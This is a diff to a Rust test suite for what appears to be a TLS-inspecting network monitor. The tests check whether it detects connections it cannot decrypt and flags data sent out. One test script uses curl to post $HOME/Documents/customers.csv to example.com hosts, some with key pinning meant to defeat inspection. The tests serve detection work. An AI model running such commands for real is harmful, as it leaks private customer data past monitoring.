@@ -32,7 +32,8 @@ fn a_browser_loads_a_page_and_all_it_says_is_read() {
 host = "page.example.com"
 path = "/hello*"
 headers = { "content-type" = "text/html" }
-content = '''<!DOCTYPE html><title>a page</title><script>
+content = '''<!DOCTYPE html><title>a page</title><link rel="preconnect" href="https://never.example.com">
+<link rel="preconnect" href="https://never.example.org"><script>
 fetch("https://api.example.com/collect", {method: "POST", body: "said=browser"})
 const socket = new WebSocket("wss://chat.example.com/x")
 socket.onopen = () => { socket.send("said in frames"); document.title = "has spoken" }
@@ -68,6 +69,13 @@ wait()
     );
     // A browser opens connections that it does not need, and lets go of them before anything is said.
     let coverage = &recorded.report.as_ref().expect("a report")["coverage"];
+    lab.expect(
+        &recorded,
+        &[],
+        &["op:tls-hello target:never.example.com:443", "op:tls-hello target:never.example.org:443"],
+    );
+    let accused = lab.events(&recorded.bundle, r#"op:tls-refused detail~"without a word""#);
+    assert!(accused.is_empty(), "{accused:#?}");
     let unread = coverage["unread"].as_array().expect("a list");
     assert!(unread.iter().all(|place| place == "api.example.com:443"), "{coverage}");
     assert!(coverage["decrypted"].as_u64() >= Some(3) && coverage["lost"] == 0, "{coverage}");
@@ -175,6 +183,101 @@ echo | openssl s_client -connect sig.example.com:443 -servername sig.example.com
         let broken = lab.events(&recorded.bundle, r#"op:dns-query detail:"not understood" proc:python3*"#);
         assert!(broken.len() >= 7, "{} of the broken messages are there", broken.len());
         assert!(lab.events(&recorded.bundle, "op:tls-refused").is_empty());
+    }
+}
+
+#[test]
+fn who_lets_go_after_the_handshake_has_refused() {
+    need(&[("curl", "curl"), ("openssl", "openssl"), ("python3", "python3"), ("awk", "gawk")]);
+    // Each with a control that sends by the same client.
+    let script = r#"
+pin=sha256//AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=
+own=sha256//$(echo | openssl s_client -connect own.example.com:443 2>/dev/null | openssl x509 -noout -pubkey | openssl pkey -pubin -outform der | openssl dgst -sha256 -binary | base64)
+send() { name=$1; shift; curl -sS "$@" -d @$HOME/Documents/customers.csv -o /dev/null https://$name.example.com/; echo "$name $?"; }
+send pinned --pinnedpubkey $pin
+send oldpinned --tls-max 1.2 --pinnedpubkey $pin
+send blind -k
+send own --pinnedpubkey $own
+python3 - <<'END'
+import ssl, socket, smtplib, threading, time
+def attempt(name, what):
+    try: print(name, what())
+    except Exception as error: print(name, "failed", repr(error))
+try:
+    import urllib3
+    def post(host, **more):
+        return urllib3.HTTPSConnectionPool(host, 443, retries=False, ca_certs="/etc/ssl/certs/ca-certificates.crt", **more).request("POST", "/", body=b"said").status
+    attempt("elsewhere", lambda: post("elsewhere.example.com"))
+    attempt("print", lambda: post("print.example.com", assert_fingerprint="00" * 32))
+except ImportError: print("urllib3 is missing: apt-get install python3-urllib3")
+# A client of mail that is greeted, and leaves; one that checks before it goes on.
+def open_tls(host, port): return ssl.create_default_context().wrap_socket(socket.create_connection((host, port), 9), server_hostname=host)
+def greeted():
+    s = open_tls("greeted.example.com", 465); said = s.recv(99)[:3]; s.close(); return said
+def upgraded():
+    s = smtplib.SMTP("upgraded.example.com", 587, timeout=9); s.starttls(context=ssl.create_default_context()); s.sock.close(); return "gone"
+# One in reserve, which is let go of at once, beside one that is used later.
+def reserve():
+    used, spare = open_tls("reserve.example.com", 443), open_tls("reserve.example.com", 443)
+    spare.close(); time.sleep(0.2); used.sendall(b"GET / HTTP/1.0\r\n\r\n"); return used.recv(12)
+# Many, of which none is used.
+def many():
+    all = [open_tls("many.example.com", 443) for _ in range(3)]
+    for one in all: one.close()
+    return len(all)
+for what in [greeted, upgraded, reserve, many]: attempt(what.__name__, what)
+END
+# A reset, when the handshake has surely ended.
+python3 -c '
+import ssl, socket, struct, time
+s = ssl.create_default_context().wrap_socket(socket.create_connection(("reset.example.com", 443), 9), server_hostname="reset.example.com")
+time.sleep(0.5); s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0)); s.close(); print("reset gone")'
+"#;
+    for privilege in Privilege::available() {
+        let lab = Lab::new(privilege);
+        let recorded = lab.script(&[], script);
+        let told = r#"op:tls-refused tls:yes detail~"after it had seen the certificate, without a word""#;
+        lab.expect(
+            &recorded,
+            &[
+                "pinned 90",
+                "oldpinned 90",
+                "blind 0",
+                "own 0",
+                "elsewhere 200",
+                "print failed",
+                "greeted b'220'",
+                "upgraded gone",
+                "reserve b'HTTP/1.",
+                "many 3",
+                "reset gone",
+            ],
+            &[
+                &format!("{told} target:pinned.example.com:443 proc:curl verb:transmit asset:customers"),
+                &format!("{told} target:oldpinned.example.com:443 proc:curl verb:transmit asset:customers"),
+                &format!("{told} target:print.example.com:443 proc:python3*"),
+                &format!("{told} target:upgraded.example.com:587"),
+                &format!("{told} target:reset.example.com:443"),
+                "op:sent target:blind.example.com:443 verb:transmit asset:customers",
+                "op:sent target:own.example.com:443 verb:transmit asset:customers",
+            ],
+        );
+        let refusals = lab.events(&recorded.bundle, "op:tls-refused");
+        let mut places: Vec<_> = refusals.iter().filter_map(|event| event["target"].as_str()).collect();
+        places.sort_unstable();
+        let pinned = ["many.example.com:443", "oldpinned.example.com:443", "pinned.example.com:443"];
+        let others = ["print.example.com:443", "reset.example.com:443", "upgraded.example.com:587"];
+        assert_eq!(places, [pinned, others].concat(), "{privilege:?}");
+        let report = recorded.report.expect("a report");
+        let coverage = &report["coverage"];
+        assert_eq!(coverage["unread"], serde_json::json!(places), "{coverage}");
+        let all = coverage["connections"].as_u64().expect("a number");
+        assert_eq!(coverage["decrypted"].as_u64(), Some(all - 6), "{coverage}");
+        let suspected = |place: &str| {
+            let is = |finding: &&Value| finding["verb"] == "transmit" && finding["destination"] == place;
+            report["findings"].as_array().expect("findings").iter().filter(is).any(|f| f["confidence"] == "suspected")
+        };
+        assert!(suspected("pinned.example.com:443"), "{}", report["findings"]);
     }
 }
 
